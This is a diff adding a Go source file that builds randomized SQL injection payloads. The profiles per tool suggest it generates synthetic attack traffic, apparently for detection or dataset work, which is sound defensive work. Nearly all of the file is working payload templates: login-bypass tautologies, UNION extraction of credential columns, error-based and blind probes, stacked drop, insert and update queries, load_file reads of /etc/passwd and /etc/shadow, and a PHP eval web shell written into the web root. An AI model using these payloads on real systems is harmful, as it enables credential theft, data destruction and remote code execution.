@@ -1,0 +1,231 @@
+package attackgen
+
+import (
+	"fmt"
+	"math/rand"
+)
+
+// payloadFunc builds one randomized payload string (the parameter value of
+// the malicious request, before tamper transforms).
+type payloadFunc func(rng *rand.Rand) string
+
+// Shared vocabulary for payload construction.
+var (
+	tableNames  = []string{"users", "members", "accounts", "admin", "login", "products", "orders", "customers", "wp_users", "jos_users"}
+	columnNames = []string{"username", "password", "email", "id", "login", "passwd", "user_pass", "credit_card", "secret"}
+	quoteStyles = []string{"'", "\""}
+)
+
+func n(rng *rand.Rand, max int) int { return 1 + rng.Intn(max) }
+
+func commentTail(rng *rand.Rand) string {
+	return pick(rng, []string{"-- ", "-- -", "#", "--+", ""})
+}
+
+// subquery returns a random scalar subquery used inside error-based and
+// blind payloads.
+func subquery(rng *rand.Rand) string {
+	switch rng.Intn(6) {
+	case 0:
+		return "select user()"
+	case 1:
+		return "select version()"
+	case 2:
+		return "select database()"
+	case 3:
+		return fmt.Sprintf("select %s from %s limit %d,1", pick(rng, columnNames), pick(rng, tableNames), rng.Intn(5))
+	case 4:
+		return "select table_name from information_schema.tables limit 1"
+	default:
+		return fmt.Sprintf("select count(*) from %s", pick(rng, tableNames))
+	}
+}
+
+// unionColumns renders a UNION SELECT column list of width w with an
+// extraction expression in a random position.
+func unionColumns(rng *rand.Rand, w int) string {
+	kind := rng.Intn(3)
+	exprPos := rng.Intn(w)
+	cols := make([]string, w)
+	for i := range cols {
+		switch kind {
+		case 0:
+			cols[i] = fmt.Sprintf("%d", i+1)
+		case 1:
+			cols[i] = "null"
+		default:
+			if rng.Intn(2) == 0 {
+				cols[i] = fmt.Sprintf("%d", i+1)
+			} else {
+				cols[i] = "null"
+			}
+		}
+	}
+	switch rng.Intn(4) {
+	case 0:
+		cols[exprPos] = "concat(database(),char(58),user(),char(58),version())"
+	case 1:
+		cols[exprPos] = fmt.Sprintf("concat(%s,0x3a,%s)", pick(rng, columnNames), pick(rng, columnNames))
+	case 2:
+		cols[exprPos] = "@@version"
+	case 3:
+		cols[exprPos] = fmt.Sprintf("group_concat(%s)", pick(rng, columnNames))
+	}
+	out := cols[0]
+	for _, c := range cols[1:] {
+		out += "," + c
+	}
+	return out
+}
+
+// Master template pools, indexed per family. Profiles choose a subset of
+// indices, giving each tool its own generation style while all tools stay
+// inside the same family taxonomy.
+var familyTemplates = map[Family][]payloadFunc{
+	FamilyTautology: {
+		func(rng *rand.Rand) string { // 0: classic quote tautology
+			q := pick(rng, quoteStyles)
+			c := string(rune('a' + rng.Intn(26)))
+			return fmt.Sprintf("%d%s or %s%s%s=%s%s %s", n(rng, 99), q, q, c, q, q, c, commentTail(rng))
+		},
+		func(rng *rand.Rand) string { // 1: numeric tautology
+			v := n(rng, 9999)
+			return fmt.Sprintf("%d or %d=%d", n(rng, 99), v, v)
+		},
+		func(rng *rand.Rand) string { // 2: login bypass
+			return pick(rng, []string{"admin'-- ", "admin'#", "admin' or '1'='1", "' or ''='", "\" or \"\"=\""})
+		},
+		func(rng *rand.Rand) string { // 3: parenthesized tautology
+			return fmt.Sprintf("%d') or ('%d'='%d", n(rng, 99), 7, 7)
+		},
+		func(rng *rand.Rand) string { // 4: LIKE/true variants
+			return pick(rng, []string{"1' or 1 like 1-- ", "x' or true-- ", "%' or '1'='1", "1 or 2>1"})
+		},
+	},
+	FamilyUnion: {
+		func(rng *rand.Rand) string { // 0: plain union select
+			all := ""
+			if rng.Intn(2) == 0 {
+				all = "all "
+			}
+			return fmt.Sprintf("-%d union %sselect %s%s", n(rng, 99), all, unionColumns(rng, 2+rng.Intn(12)), commentTail(rng))
+		},
+		func(rng *rand.Rand) string { // 1: union with FROM clause
+			return fmt.Sprintf("-%d union select %s from %s%s", n(rng, 99), unionColumns(rng, 2+rng.Intn(6)), pick(rng, tableNames), commentTail(rng))
+		},
+		func(rng *rand.Rand) string { // 2: quoted break-out union
+			q := pick(rng, quoteStyles)
+			return fmt.Sprintf("%d%s union select %s-- ", n(rng, 99), q, unionColumns(rng, 1+rng.Intn(5)))
+		},
+		func(rng *rand.Rand) string { // 3: null-probing union
+			return fmt.Sprintf("null union select null,%s from dual", unionColumns(rng, 1))
+		},
+		func(rng *rand.Rand) string { // 4: order-by column probe then union
+			return fmt.Sprintf("%d order by %d%s", n(rng, 99), 1+rng.Intn(20), commentTail(rng))
+		},
+	},
+	FamilyErrorBased: {
+		func(rng *rand.Rand) string { // 0: extractvalue
+			return fmt.Sprintf("%d and extractvalue(1,concat(0x7e,(%s)))", n(rng, 99), subquery(rng))
+		},
+		func(rng *rand.Rand) string { // 1: updatexml
+			return fmt.Sprintf("%d' and updatexml(1,concat(0x7e,(%s),0x7e),1)-- ", n(rng, 99), subquery(rng))
+		},
+		func(rng *rand.Rand) string { // 2: floor(rand()) duplicate-key
+			return fmt.Sprintf("%d and (select 1 from (select count(*),concat((%s),floor(rand(0)*2))x from information_schema.tables group by x)a)", n(rng, 99), subquery(rng))
+		},
+		func(rng *rand.Rand) string { // 3: cast error
+			return fmt.Sprintf("%d and cast((%s) as decimal)", n(rng, 99), subquery(rng))
+		},
+	},
+	FamilyBooleanBlind: {
+		func(rng *rand.Rand) string { // 0: AND n=n probing (sqlmap style)
+			v := 1000 + rng.Intn(9000)
+			if rng.Intn(3) == 0 {
+				return fmt.Sprintf("%d and %d=%d", n(rng, 99), v, v+1)
+			}
+			return fmt.Sprintf("%d and %d=%d", n(rng, 99), v, v)
+		},
+		func(rng *rand.Rand) string { // 1: substring of version
+			return fmt.Sprintf("%d' and substring(@@version,%d,1)='%d", n(rng, 99), n(rng, 5), 4+rng.Intn(5))
+		},
+		func(rng *rand.Rand) string { // 2: ascii char probing
+			return fmt.Sprintf("%d and ascii(substr((%s),%d,1))>%d", n(rng, 99), subquery(rng), n(rng, 20), 32+rng.Intn(90))
+		},
+		func(rng *rand.Rand) string { // 3: exists probe
+			return fmt.Sprintf("%d' and exists(select * from %s)%s", n(rng, 99), pick(rng, tableNames), commentTail(rng))
+		},
+		func(rng *rand.Rand) string { // 4: length probe
+			return fmt.Sprintf("%d and length((%s))=%d", n(rng, 99), subquery(rng), n(rng, 30))
+		},
+	},
+	FamilyTimeBlind: {
+		func(rng *rand.Rand) string { // 0: sleep
+			return fmt.Sprintf("%d and sleep(%d)", n(rng, 99), n(rng, 9))
+		},
+		func(rng *rand.Rand) string { // 1: quoted or sleep
+			return fmt.Sprintf("%d' or sleep(%d)%s", n(rng, 99), n(rng, 9), commentTail(rng))
+		},
+		func(rng *rand.Rand) string { // 2: conditional sleep
+			v := n(rng, 9)
+			return fmt.Sprintf("%d and if(ascii(substr((%s),%d,1))>%d,sleep(%d),0)", n(rng, 99), subquery(rng), n(rng, 10), 64, v)
+		},
+		func(rng *rand.Rand) string { // 3: benchmark
+			return fmt.Sprintf("%d and benchmark(%d000000,md5('%c'))", n(rng, 99), n(rng, 5), 'a'+rune(rng.Intn(26)))
+		},
+		func(rng *rand.Rand) string { // 4: waitfor (MSSQL style, crawled corpora carry these too)
+			return fmt.Sprintf("%d'; waitfor delay '0:0:%d'-- ", n(rng, 99), n(rng, 9))
+		},
+	},
+	FamilyStacked: {
+		func(rng *rand.Rand) string { // 0: drop table
+			return fmt.Sprintf("%d'; drop table %s; -- ", n(rng, 99), pick(rng, tableNames))
+		},
+		func(rng *rand.Rand) string { // 1: insert admin
+			return fmt.Sprintf("%d; insert into %s (%s,%s) values ('hax','hax')-- ", n(rng, 99), pick(rng, tableNames), pick(rng, columnNames), pick(rng, columnNames))
+		},
+		func(rng *rand.Rand) string { // 2: update password
+			return fmt.Sprintf("%d'; update %s set %s='pwned' where %s='admin'; -- ", n(rng, 99), pick(rng, tableNames), pick(rng, columnNames), pick(rng, columnNames))
+		},
+		func(rng *rand.Rand) string { // 3: delete rows
+			return fmt.Sprintf("%d; delete from %s where %d=%d", n(rng, 99), pick(rng, tableNames), 1, 1)
+		},
+	},
+	FamilyFileAccess: {
+		func(rng *rand.Rand) string { // 0: load_file
+			return fmt.Sprintf("%d union select load_file('%s'),2%s", n(rng, 99), pick(rng, []string{"/etc/passwd", "/etc/shadow", "c:\\boot.ini", "/var/www/config.php"}), commentTail(rng))
+		},
+		func(rng *rand.Rand) string { // 1: into outfile
+			return fmt.Sprintf("%d' union select '<?php eval($_GET[c]);?>',2 into outfile '/var/www/shell.php'-- ", n(rng, 99))
+		},
+		func(rng *rand.Rand) string { // 2: into dumpfile
+			return fmt.Sprintf("%d union select 0x%x into dumpfile '/tmp/x%d'", n(rng, 99), 0x41424344+rng.Intn(1000), rng.Intn(100))
+		},
+	},
+	FamilySchemaProbe: {
+		func(rng *rand.Rand) string { // 0: information_schema tables
+			return fmt.Sprintf("-%d union select table_name,table_schema from information_schema.tables%s", n(rng, 99), commentTail(rng))
+		},
+		func(rng *rand.Rand) string { // 1: columns of a table
+			return fmt.Sprintf("-%d union select column_name,null from information_schema.columns where table_name='%s'%s", n(rng, 99), pick(rng, tableNames), commentTail(rng))
+		},
+		func(rng *rand.Rand) string { // 2: privilege probing
+			return fmt.Sprintf("%d union select user,password from mysql.user%s", n(rng, 99), commentTail(rng))
+		},
+		func(rng *rand.Rand) string { // 3: version/variables
+			return fmt.Sprintf("%d union select @@version,@@datadir%s", n(rng, 99), commentTail(rng))
+		},
+	},
+}
+
+// buildPayload draws a payload for the family using the profile's template
+// subset.
+func (g *Generator) buildPayload(fam Family) string {
+	pool := familyTemplates[fam]
+	allowed := g.profile.Templates[fam]
+	if len(allowed) == 0 {
+		return pool[g.rng.Intn(len(pool))](g.rng)
+	}
+	idx := allowed[g.rng.Intn(len(allowed))]
+	return pool[idx%len(pool)](g.rng)
+}
